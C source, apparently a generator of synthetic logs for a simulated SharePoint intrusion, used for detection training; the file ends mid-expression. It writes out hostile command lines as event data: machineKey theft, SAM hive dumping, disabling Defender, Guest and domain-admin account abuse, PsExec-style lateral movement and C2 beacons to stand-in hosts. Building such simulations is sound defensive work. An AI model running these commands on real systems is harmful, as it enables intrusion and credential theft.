/* The intrusion: forged request, dropped page, stolen keys, forged view states after the
 * patch, credentials, movement, collection, exfiltration, encryption. Every command is a
 * record of one; none is a payload: the encoded ones print a sentence. */
#include "plan.h"

#define A "203.0.113.77"  /* the requests */
#define A_LATER "203.0.113.78"
#define B "203.0.113.140" /* after the patch */
#define C2 "203.0.113.201"
#define UA_FORGED "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64;+rv:120.0)+Gecko/20100101+Firefox/120.0"
#define LAYOUTS                                                                            \
	"C:\\Program Files\\Common Files\\Microsoft Shared\\Web Server Extensions\\16\\"    \
	"TEMPLATE\\LAYOUTS\\"
#define S32 "C:\\Windows\\System32\\"
#define ENCODED                                                                            \
	"VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGkAbgBlAHIAdAAgAGQAZQBtAG8AbgBzAHQAcgBh"      \
	"AHQAaQBvAG4AJwA="
#define POWERSHELL S32 "WindowsPowerShell\\v1.0\\powershell.exe"
#define ARCHIVE_PART 524288000ull

#define L(k, t) ((struct label){ (k), (t), ACT_ACTOR, TELL })
#define LC(k, t) ((struct label){ (k), (t), ACT_ACTOR, CONTEXT })

static const struct who POOL = { DOMAIN_SID "-1151", "svc-sppool", DOMAIN, "0x2c91d4", "High",
				 "S-1-16-12288" };
static const struct who SETUP = { DOMAIN_SID "-1644", "svc-spsetup", DOMAIN, "0x7d10b3", "High",
				  "S-1-16-12288" };
static const struct who STOLEN = { DOMAIN_SID "-1601", "adm.okafor", DOMAIN, "0x71aa08", "High",
				   "S-1-16-12288" };

/* The address that the requests of before the patch come from. */
static const char *client(const struct plan *p, fb_time t)
{
	return plan_with(p, V_MOVING) && t >= plan_at(p, 12, 2, 20, 0) ? A_LATER : A;
}

static const char *layouts(struct plan *p, enum leaf leaf)
{
	return plan_fmt(p, LAYOUTS "%s", plan_leaf(p, leaf));
}

static const char *url(struct plan *p, enum leaf leaf)
{
	return plan_fmt(p, "/_layouts/15/%s", plan_leaf(p, leaf));
}

static void attempts(struct plan *p)
{
	bool refused = plan_with(p, V_REFUSED), entered = plan_entered(p);

	static const struct {
		unsigned hour, minute, second, status, sub, win32;
		enum host_id host;
		const char *address, *kind;
		enum act act;
	} v[] = {
		{ 3, 12, 8, 401, 0, 0, SP01, A, "toolpane-attempt", ACT_ACTOR },
		{ 3, 12, 9, 403, 0, 0, SP01, A, "toolpane-attempt", ACT_ACTOR },
		{ 3, 14, 41, 302, 0, 0, SP02, A, "toolpane-attempt", ACT_ACTOR },
		{ 9, 47, 3, 401, 2, 5, SP01, "192.0.2.199", "toolpane-attempt", ACT_OTHER },
		{ 9, 47, 5, 401, 2, 5, SP02, "192.0.2.199", "toolpane-attempt", ACT_OTHER },
		{ 17, 20, 30, 403, 0, 0, SP01, "2001:db8:66::9", "toolpane-attempt", ACT_OTHER },
	};

	for (size_t i = 0; i < sizeof(v) / sizeof(v[0]); i++)
		plan_web(p, plan_at(p, 11, v[i].hour, v[i].minute, v[i].second), v[i].host,
			 SITE_PORTAL,
			 (struct label){ v[i].kind, "T1190", entered ? v[i].act : ACT_OTHER, TELL },
			 (struct web_line){ "POST", "/_layouts/15/ToolPane.aspx",
					    "DisplayMode=Edit&a=/ToolPane.aspx", "-", v[i].address,
					    UA_FORGED, "/_layouts/SignOut.aspx",
					    refused ? 404 : v[i].status, refused ? 5 : v[i].sub,
					    refused ? 0 : v[i].win32, 31 + (unsigned)i, 1293, 742 });
}

static void forged(struct plan *p, fb_time t, enum host_id host, const char *stem,
		   const char *query, unsigned status, unsigned taken, const char *kind)
{
	plan_web(p, t, host, SITE_PORTAL, L(kind, "T1190"),
		 (struct web_line){ "POST", stem, query, "-", client(p, t), UA_FORGED,
				    "/_layouts/SignOut.aspx", status, 0, 0, taken, 3811, 9120 });
}

static void page(struct plan *p, fb_time t, enum host_id host, const char *method,
		 const char *stem, const char *query, const char *referer, unsigned taken,
		 uint64_t sent, struct label l)
{
	plan_web(p, t, host, SITE_PORTAL, l,
		 (struct web_line){ method, stem, query, "-", client(p, t), UA_FORGED, referer, 200,
				    0, 0, taken, sent, 512 });
}

static void defender(struct plan *p, fb_time t, enum host_id host, enum schema_id id,
		     const char *name, const char *category, const char *path,
		     const char *process, const char *action)
{
	plan_event(p, t, host, id, L("defender-detection", "T1190"), "Product Name",
		   "Microsoft Defender Antivirus", "Product Version", "4.18.25060.7",
		   "Detection ID", "{6E1B5B36-0A5D-4C0E-9B57-2B0A4C1D77E1}", "Detection Time",
		   "2025-08-12T02:31:40.118Z", "Threat ID", "2147947842", "Threat Name", name,
		   "Severity ID", "5", "Severity Name", "Severe", "Category Name", category,
		   "FWLink", "https://go.microsoft.com/fwlink/?linkid=37020&name=inert",
		   "Status Code", id == DEF_1116 ? "1" : "3", "State", id == DEF_1116 ? "1" : "2",
		   "Source ID", "3", "Source Name", "Real-Time Protection", "Process Name", process,
		   "Detection User", "NORTHMOOR\\svc-sppool", "Path", path, "Origin Name",
		   "Local machine", "Execution Name", "Suspended", "Type Name", "Concrete",
		   "Action Name", action, "Error Code", "0x00000000", "Error Description",
		   "The operation completed successfully. ", "Post Clean Status", "0",
		   "Additional Actions String", "No additional actions required",
		   "Security intelligence Version",
		   "AV: 1.435.212.0, AS: 1.435.212.0, NIS: 1.435.212.0", "Engine Version",
		   "AM: 1.1.25060.6, NIS: 1.1.25060.6", NULL);
}

static struct proc worker(struct plan *p, enum host_id host)
{
	return plan_proc(p, host, S32 "inetsrv\\w3wp.exe",
			 "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"SharePoint - 80\" -v \"v4.0\"",
			 "NORTHMOOR\\svc-sppool");
}

/* 12 August: through ToolPane on the first front end. */
static void entry(struct plan *p)
{
	struct proc w3wp = worker(p, SP01), cmd, ps;
	struct label shell = L("w3wp-shell", "T1059.003"), drop = L("webshell-drop", "T1505.003");

	forged(p, plan_at(p, 12, 2, 11, 7), SP01, "/_layouts/15/ToolPane.aspx",
	       "DisplayMode=Edit&a=/ToolPane.aspx", 200, 1436, "toolpane-forged-referrer");
	cmd = plan_spawn(p, plan_at(p, 12, 2, 11, 6.31), SP01, &POOL, &w3wp, S32 "cmd.exe",
			 "\"" S32 "cmd.exe\" /c powershell -EncodedCommand " ENCODED, shell);
	ps = plan_spawn(p, plan_at(p, 12, 2, 11, 6.402), SP01, &POOL, &cmd, POWERSHELL,
			"powershell -EncodedCommand " ENCODED, L("encoded-powershell", "T1059.001"));
	plan_event(p, plan_at(p, 12, 2, 11, 6.9), SP01, PS_4104,
		   LC("encoded-powershell", "T1059.001"), "MessageNumber", "1", "MessageTotal", "1",
		   "ScriptBlockText", "Write-Output 'inert demonstration'", "ScriptBlockId",
		   "7c1d2f60-6a0e-4a4b-8c58-0f1a2b3c4d5e", "Path", "", NULL);
	if (!plan_drops(p))
		return;
	plan_file(p, plan_at(p, 12, 2, 11, 6.95), SP01, &ps, layouts(p, LEAF_FIRST), drop);
	plan_file(p, plan_at(p, 12, 2, 11, 7.02), SP01, &ps, layouts(p, LEAF_SHELL), drop);
	page(p, plan_at(p, 12, 2, 11, 22), SP01, "GET", url(p, LEAF_FIRST), "-",
	     "/_layouts/SignOut.aspx", 2218, 1021, L("webshell-page-get", "T1505.003"));
	plan_file(p, plan_at(p, 12, 2, 11, 20.7), SP01, &w3wp,
		  plan_fmt(p,
			   "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET "
			   "Files\\root\\8c1f6a3e\\5a90d1b7\\App_Web_%s.9c9699a8.k2vq_x1e.dll",
			   plan_leaf(p, LEAF_FIRST)),
		  L("webshell-compiled", "T1505.003"));
	forged(p, plan_at(p, 12, 2, 14, 50), SP01, "/_layouts/15/ToolPane.aspx/w7xk2",
	       "DisplayMode=Edit&zq=/ToolPane.aspx", 200, 1310, "toolpane-path-info");
	page(p, plan_at(p, 12, 2, 16, 12), SP01, "GET", url(p, LEAF_SHELL), "-",
	     "/_layouts/SignOut.aspx", 1981, 1187, L("webshell-page-get", "T1505.003"));
	defender(p, plan_at(p, 12, 2, 31, 40.2), SP01, DEF_1116,
		 "Trojan:Win32/HijackSharePointServer.A", "Trojan",
		 plan_fmt(p, "file:_%s", layouts(p, LEAF_FIRST)), POWERSHELL, "Not Applicable");
	defender(p, plan_at(p, 12, 2, 31, 52.7), SP01, DEF_1117,
		 "Trojan:Win32/HijackSharePointServer.A", "Trojan",
		 plan_fmt(p, "file:_%s", layouts(p, LEAF_FIRST)), POWERSHELL, "Quarantine");
	defender(p, plan_at(p, 12, 2, 14, 50.4), SP01, DEF_1116, "Exploit:Script/SuspSignoutReq.A",
		 "Exploit", "amsi:_\\Device\\HarddiskVolume2\\Windows\\System32\\inetsrv\\w3wp.exe",
		 S32 "inetsrv\\w3wp.exe", "Not Applicable");
}

/* A command given to the page; where there is none, to the code that took its place. */
static void order(struct plan *p, fb_time t, unsigned taken, uint64_t sent)
{
	if (plan_drops(p))
		page(p, t, SP01, "POST", url(p, LEAF_SHELL), "-", "-", taken, sent,
		     L("webshell-page-post", "T1505.003"));
	else
		forged(p, t, SP01, "/_layouts/15/ToolPane.aspx", "DisplayMode=Edit&a=/ToolPane.aspx",
		       200, taken, "toolpane-forged-referrer");
}

/* Keys, and a look around, by the page that Defender did not see. */
static void keys_and_survey(struct plan *p)
{
	static const struct {
		double at;
		const char *image, *command, *kind, *technique;
	} survey[] = {
		{ 4.1, S32 "whoami.exe", "whoami  /all", "discovery-whoami", "T1033" },
		{ 21.7, S32 "nltest.exe", "nltest  /domain_trusts /all_trusts", "discovery-nltest",
		  "T1482" },
		{ 38.9, S32 "net.exe", "net  group \"domain admins\" /domain", "discovery-net-group",
		  "T1087.002" },
		{ 55.2, S32 "quser.exe", "quser", "discovery-quser", "T1033" },
	};
	struct proc w3wp = worker(p, SP01), cmd, child;
	fb_time t;

	for (size_t i = 0; i < sizeof(survey) / sizeof(survey[0]); i++) {
		t = plan_at(p, 12, 2, 40, survey[i].at);
		order(p, t + FB_SECOND / 2, 640, 2204 + 311 * i);
		cmd = plan_spawn(p, t, SP01, &POOL, &w3wp, S32 "cmd.exe",
				 plan_fmt(p, "\"cmd.exe\" /c %s", survey[i].command),
				 L("w3wp-shell", "T1059.003"));
		(void)plan_spawn(p, t + FB_SECOND / 20, SP01, &POOL, &cmd, survey[i].image,
				 survey[i].command, L(survey[i].kind, survey[i].technique));
	}
	t = plan_at(p, 12, 2, 52, 10);
	order(p, t + FB_SECOND, 1090, 1790);
	cmd = plan_spawn(p, t, SP01, &POOL, &w3wp, S32 "cmd.exe",
			 "\"cmd.exe\" /c powershell -nop -c \"Select-String -Path "
			 "C:\\inetpub\\wwwroot\\wss\\VirtualDirectories\\*\\web.config -Pattern machineKey\"",
			 L("w3wp-shell", "T1059.003"));
	child = plan_spawn(p, t + FB_SECOND / 10, SP01, &POOL, &cmd, POWERSHELL,
			   "powershell  -nop -c \"Select-String -Path "
			   "C:\\inetpub\\wwwroot\\wss\\VirtualDirectories\\*\\web.config -Pattern machineKey\"",
			   L("machinekey-read", "T1552.001"));
	plan_event(p, t + FB_SECOND / 5, SP01, SEC_4663, L("machinekey-read", "T1552.001"),
		   "SubjectUserSid", POOL.sid, "SubjectUserName", POOL.name, "SubjectDomainName",
		   DOMAIN, "SubjectLogonId", POOL.logon, "ObjectServer", "Security", "ObjectType",
		   "File", "ObjectName",
		   "C:\\inetpub\\wwwroot\\wss\\VirtualDirectories\\80\\web.config", "HandleId",
		   "0x5c4", "AccessList", "%%4416\r\n\t\t\t\t", "AccessMask", "0x1", "ProcessId",
		   plan_fmt(p, "0x%x", child.pid), "ProcessName", POWERSHELL, "ResourceAttributes",
		   "S:AI", NULL);
	/* Without a page the answer itself carries the keys. */
	if (!plan_drops(p))
		return;
	plan_file(p, t + FB_SECOND / 2, SP01, &child, layouts(p, LEAF_KEYS),
		  L("machinekey-staged", "T1074.001"));
	page(p, plan_at(p, 12, 2, 53, 2), SP01, "GET", url(p, LEAF_KEYS), "-", "-", 15, 1466,
	     L("machinekey-fetched", "T1552.001"));
	for (unsigned i = 0; i < 2; i++)
		page(p, plan_at(p, 12, 3, 5 + i, 31), SP01, "GET", url(p, LEAF_SHELL),
		     i ? "v=2" : "-", "-", 47, 1187, L("webshell-page-get", "T1505.003"));
}

static const char *event_1316(struct plan *p, fb_time t, unsigned n)
{
	char when[FB_TIME_TEXT];
	static const char *const month[] = { "8/14/2025" };

	(void)fb_time_text(t, 0, when);
	when[19] = 0;
	/* Strings in the order of the event; \1 becomes the NUL between them. */
	return plan_fmt(p,
			"4009\1Viewstate verification failed. Reason: The viewstate supplied failed "
			"integrity check.\1%s %s\1%s %s\1%08x21f04b6f9c0d1e5a7b3c2d4e\1%u\1%u\1" "50203\1"
			"/LM/W3SVC/1652431893/ROOT-1-133996212347712345\1Full\1/\1"
			"C:\\inetpub\\wwwroot\\wss\\VirtualDirectories\\80\\\1SP01\1\1" "7316\1w3wp.exe\1"
			"NORTHMOOR\\svc-sppool\1" PORTAL "/_layouts/15/start.aspx\1"
			"/_layouts/15/start.aspx\1" B "\1\1False\1\1NORTHMOOR\\svc-sppool\1"
			"Invalid viewstate. \r\n\tClient IP: " B "\r\n\tPort: %u\r\n\tReferer: \r\n\t"
			"Path: /_layouts/15/start.aspx\r\n\tUser-Agent: Mozilla/5.0\r\n\t"
			"ViewState: /wEinertdemonstration%u==\1",
			month[0], when + 11, month[0], when + 11, 0x5b1c7000 + n, 412 + n, 3 + n,
			49211 + n, n);
}

/* 14 August, after the patch: the stolen keys sign view states that the server runs. */
static void forged_state(struct plan *p)
{
	struct proc w3wp = worker(p, SP01), cmd;
	fb_time t;

	for (unsigned i = 0; i < 8; i++) {
		bool refused = i < 2, worked = i >= 3;

		t = plan_at(p, 14, 1, 5 + i, 12.0 + 3 * i);
		plan_web(p, t, SP01, SITE_PORTAL, L("forged-viewstate-post", "T1190"),
			 (struct web_line){ "POST", "/_layouts/15/start.aspx", "-", "-", B,
					    "Mozilla/5.0", "-", worked ? 200 : 500, 0, 0,
					    390 + 41 * i, 4102, 14200 + 64 * i });
		if (refused)
			plan_event(p, t + FB_SECOND / 4, SP01, APP_ASP_1316,
				   L("viewstate-1316", "T1190"), "Data", event_1316(p, t, i), NULL);
		if (!worked)
			continue;
		cmd = plan_spawn(p, t - FB_SECOND / 5, SP01, &POOL, &w3wp, S32 "cmd.exe",
				 plan_fmt(p, "\"cmd.exe\" /c echo %u", i), L("w3wp-shell", "T1059.003"));
		if (i == 5)
			plan_event(p, t, SP01, SM_3, L("c2-connection", "T1071.001"), "ProcessGuid",
				   w3wp.guid, "ProcessId", plan_fmt(p, "%u", w3wp.pid), "Image",
				   w3wp.image, "User", "NORTHMOOR\\svc-sppool", "Protocol", "tcp",
				   "Initiated", "true", "SourceIp", hosts[SP01].address,
				   "SourceHostname", "SP01.northmoor.example", "SourcePort", "51977",
				   "DestinationIp", C2, "DestinationPort", "443",
				   "DestinationPortName", "https", NULL);
		if (i == 6)
			(void)plan_spawn(p, t, SP01, &POOL, &cmd, POWERSHELL,
					 "powershell -nop -w hidden -enc " ENCODED,
					 L("encoded-powershell", "T1059.001"));
	}
	/* The second front end, which has no Sysmon but writes command lines. */
	w3wp = worker(p, SP02);
	for (unsigned i = 0; i < 2; i++) {
		t = plan_at(p, 14, 1, 22 + i, 40);
		plan_web(p, t, SP02, SITE_PORTAL, L("forged-viewstate-post", "T1190"),
			 (struct web_line){ "POST", "/_layouts/15/start.aspx", "-", "-", B,
					    "Mozilla/5.0", "-", 200, 0, 0, 512, 4099, 14328 });
		(void)plan_spawn(p, t - FB_SECOND / 4, SP02, &POOL, &w3wp, S32 "cmd.exe",
				 i ? "\"cmd.exe\" /c powershell -EncodedCommand " ENCODED :
				     "\"cmd.exe\" /c whoami",
				 L("w3wp-shell", "T1059.003"));
	}
}

static void service(struct plan *p, fb_time t, enum host_id host, const struct who *who,
		    const char *name, const char *path, const char *type, const char *start,
		    struct label l)
{
	plan_event(p, t, host, SYS_7045, l, "ServiceName", name, "ImagePath", path, "ServiceType",
		   type, "StartType", start, "AccountName",
		   strcmp(type, "kernel mode driver") == 0 ? "" : "LocalSystem", NULL)->sid = who->sid;
	if (hosts[host].share_audit)
		plan_event(p, t - FB_SECOND / 500, host, SEC_4697, l, "SubjectUserSid", who->sid,
			   "SubjectUserName", who->name, "SubjectDomainName", who->domain,
			   "SubjectLogonId", who->logon, "ServiceName", name, "ServiceFileName",
			   path, "ServiceType",
			   strcmp(type, "kernel mode driver") == 0 ? "0x1" : "0x10",
			   "ServiceStartType", "3", "ServiceAccount", "LocalSystem", NULL);
}

/* Group change: 4728 (domain) or 4732 (local). */
static void member(struct plan *p, fb_time t, enum host_id host, enum schema_id id,
		   const struct who *by, const char *member_sid, const char *member_name,
		   const char *group, const char *domain, const char *group_sid, struct label l)
{
	plan_event(p, t, host, id, l, "MemberName", member_name, "MemberSid", member_sid,
		   "TargetUserName", group, "TargetDomainName", domain, "TargetSid", group_sid,
		   "SubjectUserSid", by->sid, "SubjectUserName", by->name, "SubjectDomainName",
		   by->domain, "SubjectLogonId", by->logon, NULL);
}

static void account(struct plan *p, fb_time t, enum host_id host, enum schema_id id,
		    const struct who *by, const char *name, const char *domain, const char *sid,
		    struct label l)
{
	struct planned *e = plan_event(p, t, host, id, l, "TargetUserName", name,
				       "TargetDomainName", domain, "TargetSid", sid,
				       "SubjectUserSid", by->sid, "SubjectUserName", by->name,
				       "SubjectDomainName", by->domain, "SubjectLogonId",
				       by->logon, id == SEC_4720 ? "SamAccountName" : NULL,
				       name, "DisplayName", "SharePoint Setup", "UserPrincipalName",
				       "svc-spsetup@northmoor.example", "PrimaryGroupId", "513",
				       "OldUacValue", "0x0", "NewUacValue", "0x15",
				       "UserAccountControl",
				       "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084", "LogonHours",
				       "%%1797", NULL);
	(void)e;
}

/* 14 August, 01:20: the local machine is taken over. Returns what does it. */
static struct proc take_over(struct plan *p)
{
	const struct who *sys = &SYSTEM_ACCOUNT;
	struct proc w3wp = worker(p, SP01), cmd, tool, lsass, services;
	const char *guest = "S-1-5-21-870911412-3091184027-1190823344-501";

	plan_web(p, plan_at(p, 14, 1, 20, 2.6), SP01, SITE_PORTAL, L("forged-viewstate-post", "T1190"),
		 (struct web_line){ "POST", "/_layouts/15/start.aspx", "-", "-", B, "Mozilla/5.0", "-",
				    200, 0, 0, 702, 4102, 14712 });
	cmd = plan_spawn(p, plan_at(p, 14, 1, 20, 2), SP01, &POOL, &w3wp, S32 "cmd.exe",
			 "\"cmd.exe\" /c C:\\ProgramData\\mscorsvw1.exe", L("w3wp-shell", "T1059.003"));
	tool = plan_spawn(p, plan_at(p, 14, 1, 20, 2.2), SP01, sys, &cmd,
			  "C:\\ProgramData\\mscorsvw1.exe", "C:\\ProgramData\\mscorsvw1.exe",
			  LC("unknown-tool", "T1068"));
	cmd = plan_spawn(p, plan_at(p, 14, 1, 20, 40), SP01, sys, &tool, S32 "cmd.exe",
			 "cmd.exe /c reg save HKLM\\SAM C:\\ProgramData\\s.dat /y",
			 LC("system-shell", "T1059.003"));
	(void)plan_spawn(p, plan_at(p, 14, 1, 20, 40.1), SP01, sys, &cmd, S32 "reg.exe",
			 "reg  save HKLM\\SAM C:\\ProgramData\\s.dat /y",
			 L("sam-hive-save", "T1003.002"));
	lsass = plan_proc(p, SP01, S32 "lsass.exe", S32 "lsass.exe", "NT AUTHORITY\\SYSTEM");
	plan_event(p, plan_at(p, 14, 1, 22, 15.4), SP01, SM_10, L("lsass-access", "T1003.001"),
		   "SourceProcessGUID", tool.guid, "SourceProcessId", plan_fmt(p, "%u", tool.pid),
		   "SourceThreadId", "7120", "SourceImage", tool.image, "TargetProcessGUID",
		   lsass.guid, "TargetProcessId", plan_fmt(p, "%u", lsass.pid), "TargetImage",
		   S32 "lsass.exe", "GrantedAccess", "0x1410", "CallTrace",
		   "C:\\Windows\\SYSTEM32\\ntdll.dll+9f6e4|C:\\Windows\\System32\\KERNELBASE.dll+2726e|"
		   "C:\\ProgramData\\mscorsvw1.exe+1a2c0",
		   "SourceUser", "NT AUTHORITY\\SYSTEM", "TargetUser", "NT AUTHORITY\\SYSTEM", NULL);
	services = plan_proc(p, SP01, S32 "services.exe", S32 "services.exe", "NT AUTHORITY\\SYSTEM");
	plan_event(p, plan_at(p, 14, 1, 25, 1.0), SP01, SM_13, L("defender-off", "T1562.001"),
		   "EventType", "SetValue", "ProcessGuid", services.guid, "ProcessId",
		   plan_fmt(p, "%u", services.pid), "Image", services.image, "TargetObject",
		   "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\"
		   "DisableRealtimeMonitoring",
		   "Details", "DWORD (0x00000001)", "User", "NT AUTHORITY\\SYSTEM", NULL);
	plan_event(p, plan_at(p, 14, 1, 25, 1.4), SP01, DEF_5007, L("defender-off", "T1562.001"),
		   "Product Name", "Microsoft Defender Antivirus", "Product Version", "4.18.25060.7",
		   "Old Value", "", "New Value",
		   "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\"
		   "DisableRealtimeMonitoring = 0x1", NULL);
	plan_event(p, plan_at(p, 14, 1, 25, 1.9), SP01, DEF_5001, L("defender-off", "T1562.001"),
		   "Product Name", "Microsoft Defender Antivirus", "Product Version", "4.18.25060.7",
		   NULL);
	plan_file(p, plan_at(p, 14, 1, 26, 30), SP01, &tool,
		  "C:\\Windows\\Temp\\googleApiUtil64.sys", L("driver-written", "T1068"));
	service(p, plan_at(p, 14, 1, 26, 31), SP01, sys, "googleApiUtil64",
		"C:\\Windows\\Temp\\googleApiUtil64.sys", "kernel mode driver", "demand start",
		L("driver-service-install", "T1068"));
	plan_event(p, plan_at(p, 14, 1, 26, 31.3), SP01, SM_6, L("driver-load", "T1068"),
		   "ImageLoaded", "C:\\Windows\\Temp\\googleApiUtil64.sys", "Hashes",
		   "SHA256=7F3D1B0C5A88E2419C6D0F72B3E4A59180C7D6E5F4A3B2C1908172635445362F",
		   "Signed", "true", "Signature", "Example Search Co., Ltd.", "SignatureStatus",
		   "Valid", NULL);
	account(p, plan_at(p, 14, 1, 31, 5), SP01, SEC_4722, sys, "Guest", "SP01", guest,
		L("guest-enabled", "T1078.001"));
	member(p, plan_at(p, 14, 1, 31, 9), SP01, SEC_4732, sys, guest, "-", "Administrators",
	       "Builtin", "S-1-5-32-544", L("guest-made-admin", "T1098"));
	plan_event(p, plan_at(p, 14, 1, 31, 5.1), SP01, SEC_4738, LC("guest-enabled", "T1078.001"),
		   "Dummy", "-", "TargetUserName", "Guest", "TargetDomainName", "SP01", "TargetSid",
		   guest, "SubjectUserSid", sys->sid, "SubjectUserName", "SP01$", "SubjectDomainName",
		   DOMAIN, "SubjectLogonId", "0x3e7", "OldUacValue", "0x215", "NewUacValue", "0x214",
		   "UserAccountControl", "\r\n\t\t%%2048", NULL);
	return tool;
}

static void logon(struct plan *p, fb_time t, enum host_id host, const struct who *who,
		  const char *type, const char *address, const char *station, struct label l)
{
	plan_event(p, t, host, SEC_4624, l, "TargetUserSid", who->sid, "TargetUserName", who->name,
		   "TargetDomainName", who->domain, "TargetLogonId", who->logon, "LogonType", type,
		   "LogonProcessName", "NtLmSsp ", "AuthenticationPackageName", "NTLM",
		   "WorkstationName", station, "LmPackageName", "NTLM V2", "KeyLength", "128",
		   "IpAddress", address, "IpPort", plan_fmt(p, "%u", 49700 + rng_below(&p->rng, 9000)),
		   "ImpersonationLevel", "%%1833", "VirtualAccount", "%%1843", "ElevatedToken",
		   "%%1842", NULL);
	plan_event(p, t + FB_SECOND / 1000, host, SEC_4672, LC("network-logon", "T1078.002"),
		   "SubjectUserSid", who->sid, "SubjectUserName", who->name, "SubjectDomainName",
		   who->domain, "SubjectLogonId", who->logon, "PrivilegeList",
		   "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\t"
		   "SeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeLoadDriverPrivilege", NULL);
}

static void share(struct plan *p, fb_time t, enum host_id host, const struct who *who,
		  const char *name, const char *path, const char *target, const char *mask,
		  const char *list, struct label l)
{
	plan_event(p, t, host, SEC_5145, l, "SubjectUserSid", who->sid, "SubjectUserName", who->name,
		   "SubjectDomainName", who->domain, "SubjectLogonId", who->logon, "ObjectType",
		   "File", "IpAddress", hosts[SP01].address, "IpPort", "50122", "ShareName", name,
		   "ShareLocalPath", path, "RelativeTargetName", target, "AccessMask", mask,
		   "AccessList", list, NULL);
}

/* A PsExec-like hop from the first front end, by what took it over. */
static struct proc hop(struct plan *p, unsigned minute, const struct proc *tool, enum host_id host)
{
	struct label l = L("psexec-service", "T1569.002");
	struct proc services = plan_proc(p, host, S32 "services.exe", S32 "services.exe",
					 "NT AUTHORITY\\SYSTEM"), svc;
	fb_time t = plan_at(p, 14, 1, minute, 11.25);
	struct proc ps = plan_spawn(p, t - 2 * FB_SECOND, SP01, &SYSTEM_ACCOUNT, tool,
				    "C:\\ProgramData\\psx.exe",
				    plan_fmt(p, "psx.exe \\\\%s -s cmd", hosts[host].name),
				    LC("remote-tool", "T1021.002"));

	plan_event(p, t - FB_SECOND, SP01, SEC_4648, LC("explicit-credentials", "T1078.002"),
		   "SubjectUserSid", SYSTEM_ACCOUNT.sid, "SubjectUserName", "SP01$",
		   "SubjectDomainName", DOMAIN, "SubjectLogonId", "0x3e7", "TargetUserName",
		   STOLEN.name, "TargetDomainName", DOMAIN, "TargetServerName", hosts[host].fqdn,
		   "TargetInfo", hosts[host].fqdn, "ProcessId", plan_fmt(p, "0x%x", ps.pid),
		   "ProcessName", ps.image, "IpAddress", "-", "IpPort", "-", NULL);
	logon(p, t, host, &STOLEN, "3", hosts[SP01].address, "SP01",
	      LC("network-logon", "T1021.002"));
	if (hosts[host].share_audit) {
		plan_event(p, t + FB_SECOND / 50, host, SEC_5140, LC("admin-share", "T1021.002"),
			   "SubjectUserSid", STOLEN.sid, "SubjectUserName", STOLEN.name,
			   "SubjectDomainName", DOMAIN, "SubjectLogonId", STOLEN.logon, "ObjectType",
			   "File", "IpAddress", hosts[SP01].address, "IpPort", "50122", "ShareName",
			   "\\\\*\\ADMIN$", "ShareLocalPath", "\\??\\C:\\Windows", "AccessMask", "0x1",
			   "AccessList", "%%4416\r\n\t\t\t\t", NULL);
		share(p, t + FB_SECOND / 20, host, &STOLEN, "\\\\*\\ADMIN$", "\\??\\C:\\Windows",
		      "PSEXESVC.exe", "0x17019f", "%%4417\r\n\t\t\t\t%%4418\r\n\t\t\t\t",
		      LC("admin-share", "T1021.002"));
	}
	plan_file(p, t + FB_SECOND / 15, host, &services, "C:\\Windows\\PSEXESVC.exe", l);
	service(p, t + FB_SECOND / 5, host, &STOLEN, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe",
		"user mode service", "demand start", l);
	svc = plan_spawn(p, t + FB_SECOND / 4, host, &SYSTEM_ACCOUNT, &services,
			 "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", l);
	return plan_spawn(p, t + FB_SECOND / 3, host, &SYSTEM_ACCOUNT, &svc, S32 "cmd.exe",
			  "\"cmd\"", LC("system-shell", "T1059.003"));
}

static void movement(struct plan *p, const struct proc *tool)
{
	const char *sid = DOMAIN_SID "-1644";
	struct proc cmd = hop(p, 40, tool, DC01), net;

	net = plan_spawn(p, plan_at(p, 14, 1, 43, 2), DC01, &SYSTEM_ACCOUNT, &cmd, S32 "net.exe",
			 "net  user svc-spsetup Inert-0000 /add /domain",
			 L("account-created", "T1136.002"));
	(void)net;
	account(p, plan_at(p, 14, 1, 43, 2.4), DC01, SEC_4720, &SYSTEM_ACCOUNT, "svc-spsetup", DOMAIN,
		sid, L("account-created", "T1136.002"));
	member(p, plan_at(p, 14, 1, 43, 20.1), DC01, SEC_4728, &SYSTEM_ACCOUNT, sid,
	       "CN=svc-spsetup,CN=Users,DC=northmoor,DC=example", "Domain Admins", DOMAIN,
	       DOMAIN_SID "-512", L("domain-admin-added", "T1098"));
	cmd = hop(p, 50, tool, FS02);
	cmd = hop(p, 55, tool, WS07);
	(void)plan_spawn(p, plan_at(p, 14, 1, 57, 1), WS07, &SYSTEM_ACCOUNT, &cmd, S32 "reg.exe",
			 "reg  add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v "
			 "fDenyTSConnections /t REG_DWORD /d 0 /f",
			 L("rdp-enabled", "T1112"));
	plan_event(p, plan_at(p, 14, 1, 57, 1.2), WS07, SM_13, L("rdp-enabled", "T1112"), "EventType",
		   "SetValue", "ProcessGuid", cmd.guid, "ProcessId", plan_fmt(p, "%u", cmd.pid),
		   "Image", S32 "reg.exe", "TargetObject",
		   "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections",
		   "Details", "DWORD (0x00000000)", "User", "NT AUTHORITY\\SYSTEM", NULL);
	logon(p, plan_at(p, 14, 2, 3, 7.7), FS02, &SETUP, "10", hosts[SP01].address, "FS02",
	      LC("remote-desktop-logon", "T1021.001"));
	for (unsigned i = 0; i < 14; i++)
		plan_event(p, plan_at(p, 14, 2, 4 + 10 * i % 60, 1.0 + i) +
				   (fb_time)(i / 6) * 3600 * FB_SECOND, WS07, SM_22,
			   i % 3 ? LC("c2-dns", "T1071.004") : L("c2-dns", "T1071.004"), "ProcessGuid",
			   cmd.guid, "ProcessId", plan_fmt(p, "%u", cmd.pid), "QueryName",
			   plan_fmt(p, "%016llx%016llx%08x.update.micros0ft-cdn.example",
				    (unsigned long long)rng_next(&p->rng),
